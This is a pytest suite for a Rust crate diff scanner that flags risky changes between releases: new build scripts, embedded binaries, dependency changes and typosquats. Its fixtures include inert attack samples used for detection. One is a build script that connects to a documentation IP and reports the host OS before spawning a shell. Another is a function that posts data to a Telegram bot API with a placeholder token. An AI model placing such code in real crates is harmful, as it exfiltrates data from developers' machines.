"""``cratewatch diff``: two versions of a crate, what changed that a reviewer must see.

Every scenario is a pair of real crates written to disk (directories, or ``.crate``
archives laid out as crates.io serves them) and run through the whole reader, scanner
and diff. The samples are inert: documentation IP ranges, placeholder tokens.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from cratewatch.scan.diff import ChangeVerdict, CrateDiff, diff_paths
from cratewatch.scan.manifest import Dependency, read_manifest
from tests.cli.test_audit_cli import assert_one_line_error, run
from tests.conftest import PROJECT_ROOT, check_golden
from tests.ecosystem.support import index_dep, index_record, write_index

GOLDEN = PROJECT_ROOT / "tests" / "scan" / "golden"

LIB = b"""//! A small parser.

/// Parses a number.
pub fn parse(text: &str) -> Option<u32> {
    text.trim().parse().ok()
}
"""

LIB_PATCHED = b"""//! A small parser.

/// Parses a number, ignoring a leading plus sign.
pub fn parse(text: &str) -> Option<u32> {
    text.trim().trim_start_matches('+').parse().ok()
}
"""

# Modelled on the 2023 build-script stealers: report the host, then fetch and run a payload.
BUILD_RS = b"""use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    if let Ok(mut stream) = TcpStream::connect("192.0.2.1:443") {
        let _ = stream.write_all(std::env::consts::OS.as_bytes());
    }
    let _ = Command::new("sh").arg("-c").arg("true").status();
}
"""

HARMLESS_BUILD_RS = b"""fn main() {
    println!("cargo:rerun-if-changed=build.rs");
}
"""

EXFILTRATION = b"""
pub fn report(data: &str) {
    let _ = ureq::post("https://api.telegram.org/bot000000:PLACEHOLDER/sendMessage").send_string(data);
}
"""

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"payload"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 20


def manifest(name: str, version: str, body: str = "") -> bytes:
    return f'[package]\nname = "{name}"\nversion = "{version}"\nedition = "2021"\n{body}'.encode()


def crate_dir(root: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


def crate_archive(path: Path, files: dict[str, bytes]) -> Path:
    """A ``.crate`` as crates.io serves it: a tar.gz of ``<name>-<version>/...``."""
    root = path.name.removesuffix(".crate")
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as tar:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            info.mtime = 1_700_000_000
            tar.addfile(info, io.BytesIO(data))
    return path


def diff_dirs(tmp_path: Path, old: dict[str, bytes], new: dict[str, bytes]) -> CrateDiff:
    return diff_paths(crate_dir(tmp_path / "old", old), crate_dir(tmp_path / "new", new))


# -- scenarios -------------------------------------------------------------------------


def test_a_benign_patch_release_is_unchanged_risk(tmp_path: Path) -> None:
    # A raw-IP URL the old version already had moves down a few lines: not a new threat.
    old_lib = LIB + b'\npub const MIRROR: &str = "http://192.0.2.7/mirror";\n'
    new_lib = LIB_PATCHED + b'\n\n\n// moved\npub const MIRROR: &str = "http://192.0.2.7/mirror";\n'
    diff = diff_dirs(
        tmp_path,
        {
            "Cargo.toml": manifest("demo", "1.0.0", '[dependencies]\nmemchr = "2.5"\n'),
            "src/lib.rs": old_lib,
            "README.md": b"# demo\n",
        },
        {
            "Cargo.toml": manifest("demo", "1.0.1", '[dependencies]\nmemchr = "2.7"\n'),
            "src/lib.rs": new_lib,
            "README.md": b"# demo\n",
            "CHANGELOG.md": b"## 1.0.1\n- accept a leading +\n",
        },
    )
    assert diff.verdict is ChangeVerdict.UNCHANGED_RISK, diff.reasons
    assert diff.reasons == ()
    assert diff.old.findings and diff.threats_added == ()  # the moved URL is not new
    assert (diff.old.crate, diff.old.version, diff.new.version) == ("demo", "1.0.0", "1.0.1")
    assert diff.files.added == ("CHANGELOG.md",)
    assert diff.files.changed == ("Cargo.toml", "src/lib.rs") and diff.files.removed == ()
    (change,) = diff.dependencies_changed
    assert (change.old.requirement, change.new.requirement) == ("2.5", "2.7")
    assert diff.dependencies_added == () and diff.dependencies_removed == ()
    assert diff.build_script.status == "none" and diff.binaries == ()
    assert diff.warnings == ()


def test_an_added_build_script_that_reaches_the_network_is_risky(tmp_path: Path) -> None:
    old = crate_archive(
        tmp_path / "util-0.3.1.crate",
        {"Cargo.toml": manifest("util", "0.3.1"), "src/lib.rs": LIB},
    )
    new = crate_archive(
        tmp_path / "util-0.3.2.crate",
        {"Cargo.toml": manifest("util", "0.3.2"), "src/lib.rs": LIB, "build.rs": BUILD_RS},
    )
    diff = diff_paths(old, new)
    assert diff.verdict is ChangeVerdict.RISKY
    build = diff.build_script
    assert (build.old, build.new, build.status) == ((), ("build.rs",), "added")
    assert build.files_changed == ("build.rs",)
    assert {"network", "process-spawn"} <= set(build.capabilities_added)
    assert {"network", "process-spawn"} <= set(diff.capabilities_added)
    assert any("build script newly has build-time capabilities" in r for r in diff.reasons)
    assert diff.reasons[0].startswith(("threat added", "build script"))
    assert diff.new.verdict in ("suspicious", "malicious")


def test_a_harmless_build_script_change_asks_for_review(tmp_path: Path) -> None:
    base = {"src/lib.rs": LIB, "build.rs": HARMLESS_BUILD_RS}
    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": manifest("util", "1.0.0"), **base},
        {
            "Cargo.toml": manifest("util", "1.0.1"),
            **base,
            "build.rs": HARMLESS_BUILD_RS + b"// probe the compiler version\n",
        },
    )
    assert diff.build_script.status == "changed"
    assert diff.build_script.capabilities_added == ()
    assert diff.verdict is ChangeVerdict.REVIEW
    assert diff.reasons == ("build script changed: build.rs",)


def test_build_false_turns_the_build_script_off(tmp_path: Path) -> None:
    files = {"src/lib.rs": LIB, "build.rs": BUILD_RS}
    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": manifest("util", "1.0.0", "build = false\n"), **files},
        {"Cargo.toml": manifest("util", "1.0.1"), **files},  # build.rs now runs
    )
    assert (diff.build_script.old, diff.build_script.new) == ((), ("build.rs",))
    assert diff.build_script.status == "added"
    assert diff.verdict is ChangeVerdict.RISKY  # network and processes at build time, newly

    named = diff_dirs(
        tmp_path / "named",
        {"Cargo.toml": manifest("util", "1.0.0"), "src/lib.rs": LIB},
        {
            "Cargo.toml": manifest("util", "1.0.1", 'build = "tools/gen.rs"\n'),
            "src/lib.rs": LIB,
            "tools/gen.rs": HARMLESS_BUILD_RS,
        },
    )
    assert named.build_script.new == ("tools/gen.rs",) and named.build_script.status == "added"
    assert named.verdict is ChangeVerdict.REVIEW


def test_a_clone_that_adds_a_dependency_asks_for_review(tmp_path: Path) -> None:
    """Modelled on finch-rust (2025): a copy of the finch crate, published under another
    name, whose only change is a new dependency (sha-rust) that carried the payload."""
    lib = LIB + b"pub mod sketch { pub fn hash(x: u64) -> u64 { x.rotate_left(5) } }\n"
    deps = '[dependencies]\nmurmurhash3 = "0.0.5"\nneedletail = "0.5"\n'
    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": manifest("finch", "0.6.0", deps), "src/lib.rs": lib},
        {
            "Cargo.toml": manifest("finch-rust", "0.6.0", deps + 'sha-rust = "0.1"\n'),
            "src/lib.rs": lib,
        },
    )
    assert diff.verdict is ChangeVerdict.REVIEW
    (added,) = diff.dependencies_added
    assert added.dependency == Dependency("sha-rust", "normal", "0.1")
    assert added.squat is None and not diff.screened
    assert diff.reasons == (
        "dependencies added: sha-rust",
        "the two sides are different crates: finch and finch-rust",
    )
    assert diff.warnings == ("the two sides are different crates: finch and finch-rust",)
    assert diff.files.changed == ("Cargo.toml",)


def test_dependency_tables_kinds_targets_renames_and_sources(tmp_path: Path) -> None:
    old_manifest = manifest(
        "app",
        "2.0.0",
        """
[dependencies]
serde = { version = "1.0.100", features = ["derive"] }
log = "0.4"
http = { workspace = true }
old_rand = { package = "rand", version = "0.7" }

[dev-dependencies]
criterion = "0.4"

[build-dependencies]
cc = "1.0"

[target.'cfg(windows)'.dependencies]
winapi = { version = "0.3", features = ["winuser"] }
""",
    )
    new_manifest = manifest(
        "app",
        "2.1.0",
        """
[dependencies]
serde = { version = "1.0.150", features = ["derive"] }
log = { git = "https://example.invalid/log.git", rev = "0123abc" }
http = { workspace = true }
old_rand = { package = "rand", version = "0.8" }
tokio = { version = "1", optional = true }

[dev_dependencies]
criterion = "0.5"

[target.'cfg(windows)'.dependencies]
winapi = { version = "0.3", features = ["winuser"] }

[target.'cfg(unix)'.build-dependencies]
pkg-config = "0.3"
""",
    )
    parsed = read_manifest({"Cargo.toml": new_manifest})
    assert parsed.problems == () and parsed.name == "app" and parsed.version == "2.1.0"
    by_name = {d.name: d for d in parsed.dependencies}
    assert by_name["rand"].rename == "old_rand" and by_name["rand"].requirement == "0.8"
    assert by_name["http"].source == "workspace" and by_name["http"].requirement is None
    assert by_name["log"].source == "git https://example.invalid/log.git rev 0123abc"
    assert by_name["tokio"].optional
    assert by_name["pkg-config"].target == "cfg(unix)" and by_name["pkg-config"].kind == "build"

    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": old_manifest, "src/lib.rs": LIB},
        {"Cargo.toml": new_manifest, "src/lib.rs": LIB},
    )
    added = [
        (a.dependency.name, a.dependency.kind, a.dependency.target) for a in diff.dependencies_added
    ]
    assert added == [("pkg-config", "build", "cfg(unix)"), ("tokio", "normal", None)]
    assert [(d.name, d.kind) for d in diff.dependencies_removed] == [("cc", "build")]
    changed = {
        (c.new.name, c.new.kind): (c.old.describe(), c.new.describe())
        for c in diff.dependencies_changed
    }
    assert changed == {
        ("criterion", "dev"): ("0.4", "0.5"),
        ("log", "normal"): ("0.4", "* (git https://example.invalid/log.git rev 0123abc)"),
        ("rand", "normal"): ("0.7", "0.8"),
        ("serde", "normal"): ("1.0.100", "1.0.150"),
    }
    assert diff.verdict is ChangeVerdict.REVIEW
    assert "dependencies added: pkg-config, tokio" in diff.reasons
    assert (
        "dependency log now from git https://example.invalid/log.git rev 0123abc (was crates.io)"
        in diff.reasons
    )


def test_malformed_manifests_are_warnings_not_errors(tmp_path: Path) -> None:
    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": manifest("demo", "1.0.0", "[dependencies]\nbad = 3\n"), "src/lib.rs": LIB},
        {"Cargo.toml": b"[package\nname = ", "src/lib.rs": LIB},
    )
    assert any(w.startswith("old: Cargo.toml: 'bad' in [dependencies]") for w in diff.warnings)
    assert any(w.startswith("new: Cargo.toml cannot be read") for w in diff.warnings)
    assert diff.verdict is ChangeVerdict.UNCHANGED_RISK


def test_binaries_and_include_bytes(tmp_path: Path) -> None:
    old = {"Cargo.toml": manifest("img", "0.1.0"), "src/lib.rs": LIB, "logo.png": PNG}
    lib = LIB + b'\npub static BLOB: &[u8] = include_bytes!("../assets/blob.bin");\n'
    media = diff_dirs(
        tmp_path / "media",
        old,
        {**old, "Cargo.toml": manifest("img", "0.1.1"), "logo.png": PNG + b"\x01"},
    )
    (logo,) = media.binaries
    assert (logo.file, logo.status, logo.kind) == ("logo.png", "changed", "media")
    assert media.verdict is ChangeVerdict.REVIEW  # a changed image: look, but not alarming

    payload = diff_dirs(
        tmp_path / "payload",
        old,
        {**old, "Cargo.toml": manifest("img", "0.1.1"), "src/lib.rs": lib, "assets/blob.bin": ELF},
    )
    assert payload.verdict is ChangeVerdict.RISKY
    (blob,) = payload.binaries
    assert (blob.file, blob.status, blob.kind, blob.size) == (
        "assets/blob.bin",
        "added",
        "executable",
        len(ELF),
    )
    (embed,) = payload.include_bytes_added
    assert embed.file == "src/lib.rs" and "include_bytes!" in embed.snippet
    assert "embedded-binary" in payload.capabilities_added
    assert "executable file added: assets/blob.bin" in payload.reasons
    assert "include_bytes! newly in src/lib.rs" in payload.reasons

    # a known binary extension counts even without a NUL byte
    text_dll = diff_dirs(tmp_path / "dll", old, {**old, "win/helper.dll": b"not really"})
    assert [(b.file, b.kind) for b in text_dll.binaries] == [("win/helper.dll", "data")]
    assert text_dll.verdict is ChangeVerdict.RISKY


def test_a_threat_added_in_lib_rs_is_risky(tmp_path: Path) -> None:
    old = {"Cargo.toml": manifest("fmtx", "1.2.0"), "src/lib.rs": LIB}
    diff = diff_dirs(
        tmp_path / "lib",
        old,
        {"Cargo.toml": manifest("fmtx", "1.2.1"), "src/lib.rs": LIB + EXFILTRATION},
    )
    assert diff.verdict is ChangeVerdict.RISKY
    assert [(e.rule, e.file, e.context.value) for e in diff.threats_added] == [
        ("threat-telegram-bot-api", "src/lib.rs", "library")
    ]
    assert diff.threats_added[0].line == 9
    assert diff.capabilities_added == ("network",)
    assert diff.reasons[0] == "threat added: threat-telegram-bot-api in src/lib.rs"
    assert diff.new.verdict != "clean" and diff.old.verdict == "clean"

    # the same code in tests asks for review only: tests are not built by dependents
    in_tests = diff_dirs(tmp_path / "tests", old, {**old, "tests/it.rs": EXFILTRATION})
    assert in_tests.verdict is ChangeVerdict.REVIEW
    assert in_tests.reasons == ("threat added: threat-telegram-bot-api in tests/it.rs (in tests)",)


def test_a_proc_macro_turned_on_over_network_code_is_risky(tmp_path: Path) -> None:
    lib = LIB + b'pub fn ping() { let _ = std::net::TcpStream::connect("127.0.0.1:1"); }\n'
    diff = diff_dirs(
        tmp_path,
        {"Cargo.toml": manifest("mac", "0.1.0"), "src/lib.rs": lib},
        {"Cargo.toml": manifest("mac", "0.2.0", "[lib]\nproc-macro = true\n"), "src/lib.rs": lib},
    )
    assert diff.proc_macro.turned_on and diff.proc_macro.capabilities_added == ("network",)
    assert diff.capabilities_added == ()  # the code did not change, when it runs did
    assert diff.verdict is ChangeVerdict.RISKY
    assert "proc-macro turned on: the library now runs inside the compiler" in diff.reasons


# -- typosquat screen ------------------------------------------------------------------


@pytest.fixture(scope="module")
def tiny_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A registry where serde and log are popular (many crates depend on them)."""
    records = [index_record("serde", "1.0.0", []), index_record("log", "0.4.0", [])]
    records += [index_record("serde_json", "1.0.0", [index_dep("serde", "1")])]
    for i in range(12):
        deps = [index_dep("serde", "1")] + ([index_dep("log", "0.4")] if i % 2 else [])
        records.append(index_record(f"app-{i}", "1.0.0", deps))
    return write_index(records, tmp_path_factory.mktemp("index") / "index")


def _hijacked_release(tmp_path: Path) -> tuple[Path, Path]:
    old = crate_dir(
        tmp_path / "old",
        {
            "Cargo.toml": manifest("tool", "1.0.0", '[dependencies]\nlog = "0.4"\n'),
            "src/lib.rs": LIB,
        },
    )
    body = '[dependencies]\nlog = "0.4"\nserd = "1"\nserde_json = "1"\n'
    new = crate_dir(
        tmp_path / "new", {"Cargo.toml": manifest("tool", "1.0.1", body), "src/lib.rs": LIB}
    )
    return old, new


def test_added_dependencies_screened_for_typosquats(tmp_path: Path, tiny_index: Path) -> None:
    old, new = _hijacked_release(tmp_path)
    plain = run("diff", old, new, "--format", "json")
    assert plain.exit_code == 0, plain.stderr
    document = json.loads(plain.stdout)
    assert document["verdict"] == "review" and not document["dependencies"]["screened"]
    assert all("squat_of" not in d for d in document["dependencies"]["added"])

    screened = run("diff", old, new, "--format", "json", "--typosquat", tiny_index)
    assert screened.exit_code == 1, screened.stderr
    document = json.loads(screened.stdout)
    assert document["verdict"] == "risky" and document["dependencies"]["screened"]
    added = {d["name"]: d for d in document["dependencies"]["added"]}
    assert added["serd"]["squat_of"] == "serde"
    assert "squat_of" not in added["serde_json"]
    assert "dependency serd looks like a squat of serde" in document["reasons"]
    human = run("diff", old, new, "--typosquat", tiny_index)
    assert "SQUAT of serde" in human.stdout


# -- command line ----------------------------------------------------------------------


def test_cli_exit_codes(tmp_path: Path) -> None:
    clean = {"Cargo.toml": manifest("demo", "1.0.0"), "src/lib.rs": LIB}
    old = crate_dir(tmp_path / "old", clean)
    same = crate_dir(tmp_path / "same", {**clean, "Cargo.toml": manifest("demo", "1.0.1")})
    review = crate_dir(
        tmp_path / "review",
        {**clean, "Cargo.toml": manifest("demo", "1.1.0", '[dependencies]\nitoa = "1"\n')},
    )
    risky = crate_dir(tmp_path / "risky", {**clean, "src/lib.rs": LIB + EXFILTRATION})

    assert run("diff", old, same).exit_code == 0
    assert run("diff", old, review).exit_code == 0
    assert run("diff", old, review, "--fail-on", "review").exit_code == 1
    assert run("diff", old, same, "--fail-on", "review").exit_code == 0
    result = run("diff", old, risky)
    assert result.exit_code == 1
    assert result.stdout.startswith("demo 1.0.0 -> demo 1.0.0: RISKY\n")
    assert "  why: threat added: threat-telegram-bot-api in src/lib.rs" in result.stdout
    assert run("diff", risky, old).exit_code == 0  # removing a threat is no risk


def test_cli_bad_input_is_a_one_line_error(tmp_path: Path) -> None:
    good = crate_dir(tmp_path / "good", {"Cargo.toml": manifest("demo", "1.0.0")})
    missing = tmp_path / "missing-1.0.0.crate"
    assert_one_line_error(run("diff", good, missing), 3, str(missing), "no such file")
    broken = tmp_path / "broken-1.0.0.crate"
    broken.write_bytes(b"this is not gzip")
    assert_one_line_error(run("diff", broken, good), 3, str(broken), "not a readable .crate")
    empty = tmp_path / "empty"
    empty.mkdir()
    assert_one_line_error(run("diff", good, empty), 3, str(empty), "no Cargo.toml")
    no_index = tmp_path / "no-index"
    assert_one_line_error(run("diff", good, good, "--typosquat", no_index), 3, str(no_index))
    assert_one_line_error(run("diff", good), 2)
    assert_one_line_error(run("diff", good, good, "--fail-on", "never"), 2, "--fail-on")


def _check_golden(name: str, text: str) -> None:
    check_golden(GOLDEN / name, text)


def test_golden_output_of_a_compromised_release(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The whole report, both formats, for a release that does everything at once."""
    monkeypatch.chdir(tmp_path)
    crate_archive(
        Path("old/parsekit-0.4.2.crate"),
        {
            "Cargo.toml": manifest(
                "parsekit",
                "0.4.2",
                '[dependencies]\nmemchr = "2.5"\n\n[dev-dependencies]\nquickcheck = "1"\n',
            ),
            "src/lib.rs": LIB,
            "tests/parse.rs": b'#[test]\nfn one() { assert!(parsekit::parse("1").is_some()) }\n',
        },
    )
    crate_archive(
        Path("new/parsekit-0.4.3.crate"),
        {
            "Cargo.toml": manifest(
                "parsekit",
                "0.4.3",
                '[dependencies]\nmemchr = "2.7"\n'
                'helper-net = { version = "0.1", package = "netkit" }\n'
                "\n[target.'cfg(windows)'.dependencies]\nwinreg = \"0.50\"\n",
            ),
            "build.rs": BUILD_RS,
            "src/lib.rs": LIB_PATCHED
            + EXFILTRATION
            + b'\npub static TABLE: &[u8] = include_bytes!("../data/table.bin");\n'
            + b"pub fn first(v: &[u8]) -> u8 { unsafe { *v.get_unchecked(0) } }\n",
            "data/table.bin": ELF,
        },
    )
    args = ("diff", "old/parsekit-0.4.2.crate", "new/parsekit-0.4.3.crate")
    human = run(*args)
    assert human.exit_code == 1, human.stderr
    _check_golden("diff-compromised-release.txt", human.stdout)
    result = run(*args, "--format", "json")
    assert result.exit_code == 1, result.stderr
    document = json.loads(result.stdout)
    _check_golden("diff-compromised-release.json", json.dumps(document, indent=2) + "\n")
    assert document["verdict"] == "risky"
    assert document["unsafe"] == {"old": 0, "new": 1}
    assert document["files"]["added"] == 2 and document["files"]["removed"] == 1
    assert document["build_script"]["status"] == "added"
    assert document["binaries_added"][0]["kind"] == "executable"
    assert {d["name"] for d in document["dependencies"]["added"]} == {"netkit", "winreg"}
    assert document["dependencies"]["removed"][0]["name"] == "quickcheck"


def test_two_different_crates_are_not_an_update(tmp_path: Path) -> None:
    for name in ("serde", "tokio"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "Cargo.toml").write_text(
            f'[package]\nname = "{name}"\nversion = "1.0.0"\n'
        )
    result = run("diff", tmp_path / "serde", tmp_path / "tokio", "--fail-on", "review")
    assert result.exit_code == 1
    assert result.stdout.startswith("serde 1.0.0 -> tokio 1.0.0: REVIEW")
    assert "why: the two sides are different crates: serde and tokio" in result.stdout


def test_a_new_side_older_than_the_old_is_lower_risk_and_warned(tmp_path: Path) -> None:
    for version, body in (
        ("1.0.0", ""),
        ("2.0.0", 'pub fn f() { std::net::TcpStream::connect("a:1"); }\n'),
    ):
        crate = tmp_path / version
        (crate / "src").mkdir(parents=True)
        (crate / "Cargo.toml").write_text(f'[package]\nname = "x"\nversion = "{version}"\n')
        (crate / "src" / "lib.rs").write_text(body)
    result = run("diff", tmp_path / "2.0.0", tmp_path / "1.0.0")
    assert result.stdout.startswith("x 2.0.0 -> x 1.0.0: LOWER-RISK")
    assert "capability removed: network" in result.stdout
    assert "is older than the old side (2.0.0): the sides may be swapped" in result.stdout
    assert result.exit_code == 0
